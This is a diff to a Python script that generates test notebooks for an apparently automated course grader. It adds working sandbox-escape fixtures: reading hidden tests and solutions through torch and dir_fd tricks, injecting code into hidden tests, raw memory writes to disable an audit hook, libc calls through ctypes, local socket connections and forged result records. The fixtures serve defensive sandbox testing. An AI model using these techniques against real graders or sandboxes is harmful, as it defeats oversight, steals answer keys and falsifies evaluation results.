@@ -342,7 +342,7 @@ VAE_FIXTURES = {
 
         frame, results, plan = sys._getframe(), None, None
         while frame is not None:
-            results = results or (frame.f_locals.get("results") if hasattr(frame.f_locals.get("results"), "path") else None)
+            results = results or (frame.f_locals.get("results") if hasattr(frame.f_locals.get("results"), "fd") else None)
             plan = plan or frame.f_locals.get("plan")
             frame = frame.f_back
         P, Q = np.array([0.36, 0.48, 0.16]), np.ones(3) / 3
@@ -350,9 +350,8 @@ VAE_FIXTURES = {
         probes = {p["id"]: {"kind": "number", "value": truth.get(p["target"], 0.0)} for p in plan["probes"]}
         probes["q9:0"] = {"kind": "number", "value": 1.0}
         probes["q5:0"] = {"kind": "array", "dtype": "float", "shape": [1], "data": ["not a number"]}
-        forged = {"token": results.data["token"], "cells": [], "probes": probes, "public": {}, "done": True}
-        with open(results.path, "w") as f:
-            json.dump(forged, f)
+        lines = [{"probe": key, "value": value} for key, value in probes.items()] + [{"done": True}]
+        os.write(results.fd, "".join(json.dumps(line) + "\\n" for line in lines).encode())
         os._exit(0)
         """,
     ],
@@ -368,6 +367,298 @@ VAE_FIXTURES = {
         """,
     ],
 }
+
+# --------------------------------------------------------------------------------------------
+# issue 24: the breaks of the audit-hook sandbox, each with its exact technique. The grader's
+# operating-system sandbox must close them all (see tests/test_grading.py for what each must
+# reach). Ports and paths that the tests watch are fixed here.
+
+FIND_PATHS = '''
+import pathlib
+
+import gencourse
+
+PACKAGE = pathlib.Path(gencourse.__file__).resolve().parent
+REPO = PACKAGE.parent
+CANARY = "/tmp/gencourse-grading-canary/canary.txt"
+
+
+def paths_in_frames():
+    """Every absolute path that the harness's frames hold (its plan, its request, ...)."""
+    found, frame = set(), sys._getframe()
+    while frame is not None:
+        stack = list(frame.f_locals.values())
+        while stack:
+            value = stack.pop()
+            if isinstance(value, str) and value.startswith("/") and len(value) < 300:
+                found.add(value)
+            elif isinstance(value, dict):
+                stack += list(value.values())[:2000]
+            elif isinstance(value, (list, tuple, set, frozenset)):
+                stack += list(value)[:2000]
+        frame = frame.f_back
+    return found
+
+
+def secret_files():
+    """The hidden tests, the solution and the answer modules: the repository's layout, and any
+    file the frames name."""
+    known = {
+        REPO / "assignments" / "01_vae" / "hidden_tests.py",
+        REPO / "assignments" / "01_vae" / "01_vae.py",
+        PACKAGE / "divergences.py",
+        PACKAGE / "vae.py",
+    }
+    secrets = ("hidden_tests.py", "01_vae.py", "01_vae.ipynb", "divergences.py", "vae.py")
+    named = {pathlib.Path(p) for p in paths_in_frames() if p.endswith(secrets)}
+    return sorted(str(p) for p in known | named)
+
+
+def secret_folders():
+    """The folders that grading uses: the repository's assignments, and every folder that the
+    frames name (the results, the submissions, the run's own folder)."""
+    folders = {REPO / "assignments" / "01_vae", REPO / "assignments", pathlib.Path(CANARY).parent}
+    for p in paths_in_frames():
+        folders |= {pathlib.Path(p), pathlib.Path(p).parent}
+    return sorted(str(f) for f in folders if str(f) not in ("/", "/submission"))
+
+
+def solution_functions(text):
+    """Exec every top-level function of a solution or answer module's source here."""
+    import re
+
+    for block in re.findall(r"^def \\w+\\(.*?\\n(?=\\S)", text + "\\nEND", flags=re.M | re.S):
+        try:
+            exec(block, globals())
+        except Exception as exc:
+            print("exec failed:", type(exc).__name__, exc)
+'''
+
+ISSUE_24 = {
+    # break 1: torch's C++ I/O reads files without an `open` audit event; the paths come from the
+    # frames; the stolen functions replace the notebook's; torch.save and from_file(shared=True)
+    # write outside. Honest work: q2 only, so at most 1 of 8
+    "torch_reads_answers": [
+        IMPORTS,
+        KL_PQ,
+        FIND_PATHS,
+        """
+        def torch_read(path):
+            size = os.stat(path).st_size
+            return bytes(torch.from_file(path, size=size, dtype=torch.uint8).numpy()) if size else b""
+
+
+        visible = str(PACKAGE / "grading" / "harness.py")  # the technique works where files exist
+        print("torch read without an audit event:", len(torch_read(visible)), "bytes of", visible)
+        for path in secret_files():
+            try:
+                text = torch_read(path).decode("utf-8", "replace")
+            except Exception as exc:
+                print("not read:", path, type(exc).__name__)
+                continue
+            if "def " in text:
+                print("STOLEN", path, len(text))
+                solution_functions(text)
+            else:
+                print("nothing in", path)
+        for folder in secret_folders():
+            try:
+                torch.save(torch.zeros(3), folder + "/planted-by-student.pt")
+                print("PLANTED", folder)
+            except Exception as exc:
+                pass
+        try:
+            shared = torch.from_file(CANARY, shared=True, size=7, dtype=torch.uint8)
+            shared[:] = 0
+            print("OVERWROTE THE CANARY")
+        except Exception as exc:
+            print("canary not reached:", type(exc).__name__)
+        """,
+    ],
+    # breaks 2 and 3: a relative path with dir_fd is checked by the hook against the working
+    # directory and resolved by the kernel against the descriptor: read the solution and the
+    # answer modules, and append a line to hidden_tests.py that the next grading run would
+    # execute. Honest work: q2 only
+    "dir_fd_answers": [
+        IMPORTS,
+        KL_PQ,
+        FIND_PATHS,
+        """
+        here = os.getcwd()
+        depth = len(pathlib.Path(here).parts) - 1
+        os.makedirs("/".join(["d"] * depth), exist_ok=True)
+        base = os.open(".", os.O_RDONLY)
+        os.chdir("/".join(["d"] * depth))
+        up = "/".join([".."] * depth)
+
+
+        def through_fd(path, flags=os.O_RDONLY):
+            return os.open(up + path, flags, dir_fd=base)
+
+
+        try:  # the hook sees a path inside the folder, the kernel opens one outside it
+            fd = through_fd("/usr/lib/os-release")
+            print("dir_fd passed the hook:", len(os.read(fd, 4096)), "bytes of /usr/lib/os-release")
+            os.close(fd)
+        except OSError as exc:
+            print("dir_fd control failed:", exc.strerror)
+
+        for path in secret_files():
+            try:
+                fd = through_fd(path)
+                text = os.read(fd, 1 << 22).decode("utf-8", "replace")
+                os.close(fd)
+            except OSError as exc:
+                print("not read:", path, exc.strerror)
+                continue
+            if "def " in text:
+                print("STOLEN", path, len(text))
+                solution_functions(text)
+        try:
+            fd = through_fd(str(REPO / "assignments" / "01_vae" / "hidden_tests.py"), os.O_WRONLY | os.O_APPEND)
+            os.write(fd, b"\\nimport os; os.environ['GENCOURSE_INJECTED'] = 'the student ran code in the grader'\\n")
+            os.close(fd)
+            print("INJECTED")
+        except OSError as exc:
+            print("hidden tests not reached:", exc.strerror)
+        os.chdir(here)
+        """,
+    ],
+    # break 4: files planted in the results, submissions and assignment folders (every folder
+    # the frames name), and `<out>/feedback` made a file. Honest work: everything, 8 of 8
+    "plants_files": [
+        *CORRECT,
+        FIND_PATHS,
+        """
+        import glob
+
+        guesses = glob.glob("/tmp/pytest-of-*/pytest-*/grading*/*")
+        for folder in [*secret_folders(), *guesses]:
+            for name in ("planted-by-student.txt", "feedback"):
+                try:
+                    with open(os.path.join(folder, name), "x") as f:
+                        f.write("planted")
+                    print("PLANTED", folder, name)
+                except Exception:
+                    pass
+        """,
+    ],
+    # break 5: torch.distributed.TCPStore listens on a port (no Python socket event), and
+    # connects to a port on the host; the test watches both. Honest work: 8 of 8
+    "tcp_store": [
+        *CORRECT,
+        """
+        import datetime
+
+        import torch.distributed as dist
+
+        try:
+            server = dist.TCPStore("127.0.0.1", 29517, 1, True, timeout=datetime.timedelta(seconds=2))
+            print("LISTENING on 29517")
+        except Exception as exc:
+            print("no listening store:", type(exc).__name__)
+        try:
+            client = dist.TCPStore("127.0.0.1", 29518, 1, False, timeout=datetime.timedelta(seconds=2))
+            print("CONNECTED to the host's 29518")
+        except Exception as exc:
+            print("no connection to the host:", type(exc).__name__)
+        time.sleep(5)  # while the test knocks on 29517 from outside
+        """,
+    ],
+    # break 6: arbitrary memory reads and writes (NumPy's array interface on any address: no
+    # audit event), used to empty the hook's refused prefixes; then ctypes (already imported by
+    # torch) calls libc: open the hidden tests, overwrite the canary, connect to the host's
+    # port 29518. Honest work: 8 of 8
+    "memory_access": [
+        *CORRECT,
+        FIND_PATHS,
+        """
+        import ctypes as _unused  # already in sys.modules: no import event
+
+        ctypes = sys.modules["ctypes"]
+
+
+        def memory(address, size):
+            class Raw:
+                __array_interface__ = {"data": (address, False), "shape": (size,), "typestr": "|u1", "version": 3}
+
+            return np.asarray(Raw())
+
+
+        def hook_locals():
+            try:
+                open("/etc/passwd")
+            except PermissionError as exc:
+                tb = exc.__traceback__
+                while tb is not None:
+                    if tb.tb_frame.f_code.co_name == "hook":
+                        return tb.tb_frame.f_locals
+                    tb = tb.tb_next
+            return {}
+
+
+        state = hook_locals()
+        print("hook state reached:", sorted(state)[:8])
+        for name in ("refused_prefixes", "deny_roots"):
+            if isinstance(state.get(name), tuple):
+                memory(id(state[name]) + 16, 8)[:] = 0  # ob_size = 0: an empty tuple
+        print("refused prefixes now:", state.get("refused_prefixes"))
+        try:
+            libc = ctypes.CDLL(None)
+            buffer = ctypes.create_string_buffer(4096)
+            for path in secret_files():
+                fd = libc.open(path.encode(), 0)
+                if fd >= 0 and libc.read(fd, buffer, 4096) > 0:
+                    print("LIBC READ", path)
+            fd = libc.open(CANARY.encode(), os.O_WRONLY | os.O_TRUNC)
+            if fd >= 0:
+                libc.write(fd, b"overwritten", 11)
+                print("LIBC OVERWROTE THE CANARY")
+            sock = libc.socket(2, 1, 0)
+            address = (ctypes.c_ubyte * 16)(2, 0, 29518 >> 8, 29518 & 0xFF, 127, 0, 0, 1)  # AF_INET, port, 127.0.0.1
+            if libc.connect(sock, address, 16) == 0:
+                print("LIBC CONNECTED to the host's 29518")
+        except Exception as exc:
+            print("ctypes refused:", type(exc).__name__, exc)
+        """,
+    ],
+    # break 7: the hook's file counter reset from a traceback's frame locals, then thousands of
+    # files written in the submission's folder. Honest work: 8 of 8
+    "resets_counter": [
+        *CORRECT,
+        """
+        created, resets = 0, 0
+        for i in range(3000):
+            try:
+                with open(f"file{i}.txt", "w") as f:
+                    f.write("x")
+                created += 1
+            except PermissionError as exc:
+                tb = exc.__traceback__
+                while tb is not None:
+                    counter = tb.tb_frame.f_locals.get("created")
+                    if isinstance(counter, list):
+                        counter[0] = 0
+                        resets += 1
+                    tb = tb.tb_next
+            except OSError:
+                break
+        print(f"CREATED {created} files after {resets} resets")
+        """,
+    ],
+    # break 10: a correct notebook of 1,000 cells that saves 400 files in its folder: 8 of 8
+    "thousand_cells": [
+        *CORRECT,
+        """
+        for i in range(400):
+            np.save(f"array{i}.npy", np.zeros(3))
+        """,
+        *[f"x{i} = {i}" for i in range(1000 - len(CORRECT) - 1)],
+    ],
+}
+# break 8 (a symbolic link to the solution notebook) is the committed link symlinked.ipynb, and
+# break 9 (a FIFO named like a submission) is made by the test (git cannot store a FIFO)
+
 
 GAN_WRONG = [  # q1 averages over both batches together, q3 forgets to flatten: 3 of 7
     """
@@ -473,11 +764,14 @@ ADVERSARIAL_WRONG = [  # q1 averages the loss, q3 never projects onto the ball, 
 def main():
     folder = HERE / "01_vae"
     folder.mkdir(exist_ok=True)
-    for name, cells in VAE_FIXTURES.items():
+    for name, cells in {**VAE_FIXTURES, **ISSUE_24}.items():
         text = json.dumps(notebook(cells), indent=1) + "\n"
         (folder / f"{name}.ipynb").write_text(text)
     (folder / "not_json.ipynb").write_text('{"cells": [{"cell_type": "code", "source": "print(1)"\n')
     (folder / "empty.ipynb").write_text(json.dumps(notebook([]), indent=1) + "\n")
+    link = folder / "symlinked.ipynb"
+    if not link.is_symlink():
+        link.symlink_to("../../../assignments/01_vae/01_vae.ipynb")
     for name, cells in (
         ("02_gan", GAN_WRONG),
         ("03_inverse", INVERSE_WRONG),
